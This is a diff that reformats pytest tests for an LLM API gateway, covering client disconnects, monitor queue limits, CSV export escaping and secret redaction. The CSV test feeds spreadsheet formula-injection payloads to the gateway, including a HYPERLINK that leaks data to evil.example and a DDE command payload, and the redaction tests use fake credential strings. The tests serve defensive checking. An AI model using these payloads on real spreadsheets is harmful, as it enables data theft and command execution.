@@ -55,14 +55,18 @@ def raw_request(gw: Gateway, path: str, body: dict[str, Any]) -> socket.socket:
     """A request sent whole on a plain socket, left open for the caller to close."""
     data = orjson.dumps(body)
     sock = socket.create_connection(("127.0.0.1", gw.port))
-    sock.sendall(f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json"
-                 f"\r\nContent-Length: {len(data)}\r\n\r\n".encode() + data)
+    sock.sendall(
+        f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json"
+        f"\r\nContent-Length: {len(data)}\r\n\r\n".encode()
+        + data
+    )
     return sock
 
 
 # -- 15: a hang-up before the first byte --------------------------------------------------
-def test_a_hang_up_before_the_answer_cancels_the_upstream_call(gateway_factory: Any,
-                                                                fake_google: Any) -> None:
+def test_a_hang_up_before_the_answer_cancels_the_upstream_call(
+    gateway_factory: Any, fake_google: Any
+) -> None:
     gw, [acct] = gateway_with(gateway_factory, fake_google)
     # The upstream sends one event, then stalls: the gateway is collecting a non-streamed
     # answer and has sent the client nothing.
@@ -84,17 +88,26 @@ def test_a_hang_up_before_the_answer_cancels_the_upstream_call(gateway_factory: 
         time.sleep(0.05)
     assert record["duration_ms"] < 5000
     # The gateway serves on normally.
-    assert httpx.post(gw.base_url + "/v1/chat/completions", json=CHAT,
-                      timeout=30).status_code == 200
+    assert (
+        httpx.post(gw.base_url + "/v1/chat/completions", json=CHAT, timeout=30).status_code == 200
+    )
 
 
 def test_a_hang_up_while_a_stream_waits_for_its_first_event_is_a_prompt_499(
-        gateway_factory: Any, fake_google: Any) -> None:
+    gateway_factory: Any, fake_google: Any
+) -> None:
     gw, [acct] = gateway_with(gateway_factory, fake_google)
     fake_google.inject(Fault.slow(8), email=acct.email)  # no answer at all for 8 s
-    sock = raw_request(gw, "/v1/messages", {
-        "model": "claude-sonnet-4-6", "max_tokens": 50, "stream": True,
-        "messages": [{"role": "user", "content": "never mind"}]})
+    sock = raw_request(
+        gw,
+        "/v1/messages",
+        {
+            "model": "claude-sonnet-4-6",
+            "max_tokens": 50,
+            "stream": True,
+            "messages": [{"role": "user", "content": "never mind"}],
+        },
+    )
     deadline = time.monotonic() + 10
     while not fake_google.calls("streamGenerateContent"):
         assert time.monotonic() < deadline
@@ -102,28 +115,37 @@ def test_a_hang_up_while_a_stream_waits_for_its_first_event_is_a_prompt_499(
     sock.close()
     [record] = wait_for_logs(gw, seconds=4)  # not when the upstream answers, 8 s on
     assert (record["status"], record["error"]) == (
-        499, "client closed the connection before an answer")
+        499,
+        "client closed the connection before an answer",
+    )
     assert record["ttfb_ms"] is None
 
 
 # -- 14: a stream aborted by its client ---------------------------------------------------
 STREAMS = {
-    "anthropic": ("/v1/messages", {"model": "claude-sonnet-4-6", "max_tokens": 50,
-                                   "stream": True,
-                                   "messages": [{"role": "user", "content": "hang up"}]}),
+    "anthropic": (
+        "/v1/messages",
+        {
+            "model": "claude-sonnet-4-6",
+            "max_tokens": 50,
+            "stream": True,
+            "messages": [{"role": "user", "content": "hang up"}],
+        },
+    ),
     "openai": ("/v1/chat/completions", {**CHAT, "stream": True}),
-    "responses": ("/v1/responses", {"model": "gemini-3-flash", "stream": True,
-                                    "input": "hang up"}),
-    "gemini": ("/v1beta/models/gemini-3-flash:streamGenerateContent?alt=sse",
-               {"contents": [{"role": "user", "parts": [{"text": "hang up"}]}]}),
+    "responses": ("/v1/responses", {"model": "gemini-3-flash", "stream": True, "input": "hang up"}),
+    "gemini": (
+        "/v1beta/models/gemini-3-flash:streamGenerateContent?alt=sse",
+        {"contents": [{"role": "user", "parts": [{"text": "hang up"}]}]},
+    ),
 }
 
 
 @pytest.mark.parametrize("protocol", list(STREAMS))
 def test_a_stream_aborted_mid_way_is_recorded_as_499_without_errors(
-        gateway_factory: Any, fake_google: Any, protocol: str) -> None:
-    gw, [acct] = gateway_with(gateway_factory, fake_google,
-                              AGPROXY_STREAM_PING_SECONDS="0.2")
+    gateway_factory: Any, fake_google: Any, protocol: str
+) -> None:
+    gw, [acct] = gateway_with(gateway_factory, fake_google, AGPROXY_STREAM_PING_SECONDS="0.2")
     fake_google.inject(Fault.stall(20), email=acct.email)
     path, body = STREAMS[protocol]
     with httpx.stream("POST", gw.base_url + path, json=body, timeout=30) as response:
@@ -151,10 +173,15 @@ def rss_mib(gw: Gateway) -> float:
 
 
 def test_a_locked_database_sheds_captured_bodies_and_memory_stays_bounded(
-        gateway_factory: Any, fake_google: Any) -> None:
-    gw, _ = gateway_with(gateway_factory, fake_google, AGPROXY_MONITOR_CAPTURE_BODIES="true",
-                         AGPROXY_MONITOR_BODY_MAX_BYTES="262144",
-                         AGPROXY_MONITOR_QUEUE_MAX_BYTES=str(4 * 1024 * 1024))
+    gateway_factory: Any, fake_google: Any
+) -> None:
+    gw, _ = gateway_with(
+        gateway_factory,
+        fake_google,
+        AGPROXY_MONITOR_CAPTURE_BODIES="true",
+        AGPROXY_MONITOR_BODY_MAX_BYTES="262144",
+        AGPROXY_MONITOR_QUEUE_MAX_BYTES=str(4 * 1024 * 1024),
+    )
     big = {"model": "gemini-3-flash", "messages": [{"role": "user", "content": "x" * 2**20}]}
     with httpx.Client(base_url=gw.base_url, timeout=60) as client:
         for _ in range(3):  # warm up: the first large bodies set the allocator's pools
@@ -178,16 +205,18 @@ def test_a_locked_database_sheds_captured_bodies_and_memory_stays_bounded(
     assert {r["status"] for r in records} == {200}
     # Shed records say why their bodies are missing; the newest kept theirs.
     newest = gw.admin("GET", f"/api/logs/{records[0]['id']}").json()
-    assert newest["request_body"].startswith('{"model":"gemini-3-flash"'), newest["request_body"][:300]
-    shed = [gw.admin("GET", f"/api/logs/{r['id']}").json()["request_body"]
-            for r in records[1:]]
+    assert newest["request_body"].startswith('{"model":"gemini-3-flash"'), newest["request_body"][
+        :300
+    ]
+    shed = [gw.admin("GET", f"/api/logs/{r['id']}").json()["request_body"] for r in records[1:]]
     assert sum("[not kept: the monitor queue was full" in body for body in shed) > 30
     assert metric(gw, "agproxy_monitor_queue_bytes") == 0
     assert rss_mib(gw) - before < 40
 
 
 def test_the_queue_sheds_the_oldest_bodies_then_records_and_accounts_every_byte(
-        tmp_path: Any) -> None:
+    tmp_path: Any,
+) -> None:
     limit = 1024 * 1024
     settings = Settings(api_key="sk-test-000000", monitor_queue_max_bytes=limit)
     writer = MonitorWriter(open_database(tmp_path / "m.db"), lambda: settings)
@@ -213,22 +242,29 @@ def test_the_queue_sheds_the_oldest_bodies_then_records_and_accounts_every_byte(
     assert writer.written == len(first) + 2000 - writer.dropped
 
 
-@pytest.mark.parametrize("bad", [0, 1000, True, 5 * 1024 ** 3, "lots"])
+@pytest.mark.parametrize("bad", [0, 1000, True, 5 * 1024**3, "lots"])
 def test_the_queue_bound_is_checked(bad: object) -> None:
     with pytest.raises(ValidationError, match="monitor_queue_max_bytes"):
         Settings(monitor_queue_max_bytes=bad)
-    assert Settings(monitor_queue_max_bytes=2 ** 20).monitor_queue_max_bytes == 2 ** 20
+    assert Settings(monitor_queue_max_bytes=2**20).monitor_queue_max_bytes == 2**20
 
 
 # -- 13: CSV cells that a spreadsheet would run ----------------------------------------------
 def test_the_csv_export_escapes_formula_cells(gateway_factory: Any, fake_google: Any) -> None:
     gw, _ = gateway_with(gateway_factory, fake_google, AGPROXY_AUTH_MODE="strict")
-    formulas = ['=HYPERLINK("evil.example/?leak="&A1,"report")',
-                "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1;A9)", "\tTAB", "\r=1+1"]
+    formulas = [
+        '=HYPERLINK("evil.example/?leak="&A1,"report")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1;A9)",
+        "\tTAB",
+        "\r=1+1",
+    ]
     for model in formulas:  # refused by auth (no key): the model comes from the path
-        response = httpx.post(gw.base_url + f"/v1beta/models/{quote(model, safe='')}"
-                              ":generateContent",
-                              json={"contents": []})
+        response = httpx.post(
+            gw.base_url + f"/v1beta/models/{quote(model, safe='')}:generateContent",
+            json={"contents": []},
+        )
         assert response.status_code == 401
     exported = gw.admin("GET", "/api/stats/export.csv", params={"bucket": "day"})
     rows = list(csv.DictReader(io.StringIO(exported.text, newline="")))
@@ -240,32 +276,58 @@ def test_the_csv_export_escapes_formula_cells(gateway_factory: Any, fake_google:
 # -- 16: redaction of every stored column and of escaped secrets ------------------------------
 def test_every_stored_column_is_redacted(gateway_factory: Any, fake_google: Any) -> None:
     password = "admin-pass-" + uuid.uuid4().hex
-    gw, _ = gateway_with(gateway_factory, fake_google, AGPROXY_AUTH_MODE="strict",
-                         AGPROXY_MONITOR_CAPTURE_BODIES="true", AGPROXY_ADMIN_PASSWORD=password)
+    gw, _ = gateway_with(
+        gateway_factory,
+        fake_google,
+        AGPROXY_AUTH_MODE="strict",
+        AGPROXY_MONITOR_CAPTURE_BODIES="true",
+        AGPROXY_ADMIN_PASSWORD=password,
+    )
     key = gw.api_key
     github = "ghp_" + uuid.uuid4().hex[:36]
     escaped_key = key[:3] + "".join(f"\\u{ord(c):04x}" for c in key[3:])
     refresh = "1//0g" + uuid.uuid4().hex
-    body = (f'{{"model": "gemini-3-flash", "messages": [{{"role": "user", "content": '
-            f'"key {escaped_key}, refresh {refresh.replace("/", chr(92) + "/")}, {github}, '
-            f'AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY '
-            f'xoxb-123456789012-abcdefghijkl -----BEGIN RSA PRIVATE KEY-----\\nMIIEow\\n'
-            f'-----END RSA PRIVATE KEY-----"}}]}}')
-    response = httpx.post(gw.base_url + "/v1/chat/completions", content=body.encode(),
-                          headers={"Authorization": f"Bearer {key}",
-                                   "Content-Type": "application/json",
-                                   "User-Agent": f"curl/8 (key {key}; pw {password})"})
+    body = (
+        f'{{"model": "gemini-3-flash", "messages": [{{"role": "user", "content": '
+        f'"key {escaped_key}, refresh {refresh.replace("/", chr(92) + "/")}, {github}, '
+        f"AKIAIOSFODNN7EXAMPLE wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY "
+        f"xoxb-123456789012-abcdefghijkl -----BEGIN RSA PRIVATE KEY-----\\nMIIEow\\n"
+        f'-----END RSA PRIVATE KEY-----"}}]}}'
+    )
+    response = httpx.post(
+        gw.base_url + "/v1/chat/completions",
+        content=body.encode(),
+        headers={
+            "Authorization": f"Bearer {key}",
+            "Content-Type": "application/json",
+            "User-Agent": f"curl/8 (key {key}; pw {password})",
+        },
+    )
     assert response.status_code == 200, response.text
     # A model id that is a secret, refused for want of a key.
-    httpx.post(gw.base_url + f"/v1beta/models/{password}:generateContent",
-               headers={"User-Agent": f"bot {github}"}, json={"contents": []})
+    httpx.post(
+        gw.base_url + f"/v1beta/models/{password}:generateContent",
+        headers={"User-Agent": f"bot {github}"},
+        json={"contents": []},
+    )
     records = wait_for_logs(gw, 2)
-    rows = sqlite3.connect(gw.data_dir / "agproxy.db").execute(
-        "SELECT * FROM request_logs").fetchall()
+    rows = (
+        sqlite3.connect(gw.data_dir / "agproxy.db").execute("SELECT * FROM request_logs").fetchall()
+    )
     stored = str(rows)
-    for secret in (key, key[3:], password, github, refresh, refresh[3:], "AKIAIOSFODNN7EXAMPLE",
-                   "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "xoxb-123456789012", "MIIEow",
-                   escaped_key[3:20]):
+    for secret in (
+        key,
+        key[3:],
+        password,
+        github,
+        refresh,
+        refresh[3:],
+        "AKIAIOSFODNN7EXAMPLE",
+        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
+        "xoxb-123456789012",
+        "MIIEow",
+        escaped_key[3:20],
+    ):
         assert secret not in stored, secret
     refused, chat = records
     assert refused["requested_model"] == "[redacted]"
@@ -273,22 +335,34 @@ def test_every_stored_column_is_redacted(gateway_factory: Any, fake_google: Any)
     assert chat["user_agent"] == "curl/8 (key [redacted]; pw [redacted])"
 
 
-@pytest.mark.parametrize(("text", "kept"), [
-    ('{"k": "sk-\\u0061bcdefghijkl"}', '{"k": "[redacted]"}'),
-    ('{"t": "1\\/\\/0gAbCdEfGhIjKlMn"}', '{"t": "[redacted]"}'),
-    ("\\u0073k-abcdefghijkl", "[redacted]"),
-    ("gho_" + "a1B2" * 9 + " github_pat_11ABCDEFG0123456789_abcdefghij", "[redacted] [redacted]"),
-    ("ASIAY34FZKBOKMUTVV7A and the sha da39a3ee5e6b4b0d3255bfef95601890afd80709",
-     "[redacted] and the sha da39a3ee5e6b4b0d3255bfef95601890afd80709"),
-    ("secret=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY;", "secret=[redacted];"),
-    ("xoxp-1234-5678-abcdefghij ok", "[redacted] ok"),
-    ("a -----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\n-----END OPENSSH PRIVATE KEY----- z",
-     "a [redacted] z"),
-    ("cut -----BEGIN PRIVATE KEY-----\nMIIEvQIBADAN", "cut [redacted]"),
-    ('{"client_secret": "x", "private_key": "y", "credentials": "z"}',
-     '{"client_secret": "[redacted]", "private_key": "[redacted]", "credentials": "[redacted]"}'),
-    ("an escaped backslash \\\\u0061 stays", "an escaped backslash \\\\u0061 stays"),
-])
+@pytest.mark.parametrize(
+    ("text", "kept"),
+    [
+        ('{"k": "sk-\\u0061bcdefghijkl"}', '{"k": "[redacted]"}'),
+        ('{"t": "1\\/\\/0gAbCdEfGhIjKlMn"}', '{"t": "[redacted]"}'),
+        ("\\u0073k-abcdefghijkl", "[redacted]"),
+        (
+            "gho_" + "a1B2" * 9 + " github_pat_11ABCDEFG0123456789_abcdefghij",
+            "[redacted] [redacted]",
+        ),
+        (
+            "ASIAY34FZKBOKMUTVV7A and the sha da39a3ee5e6b4b0d3255bfef95601890afd80709",
+            "[redacted] and the sha da39a3ee5e6b4b0d3255bfef95601890afd80709",
+        ),
+        ("secret=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY;", "secret=[redacted];"),
+        ("xoxp-1234-5678-abcdefghij ok", "[redacted] ok"),
+        (
+            "a -----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\n-----END OPENSSH PRIVATE KEY----- z",
+            "a [redacted] z",
+        ),
+        ("cut -----BEGIN PRIVATE KEY-----\nMIIEvQIBADAN", "cut [redacted]"),
+        (
+            '{"client_secret": "x", "private_key": "y", "credentials": "z"}',
+            '{"client_secret": "[redacted]", "private_key": "[redacted]", "credentials": "[redacted]"}',
+        ),
+        ("an escaped backslash \\\\u0061 stays", "an escaped backslash \\\\u0061 stays"),
+    ],
+)
 def test_redaction_of_escaped_forms_and_more_key_shapes(text: str, kept: str) -> None:
     assert redact(text) == kept
 
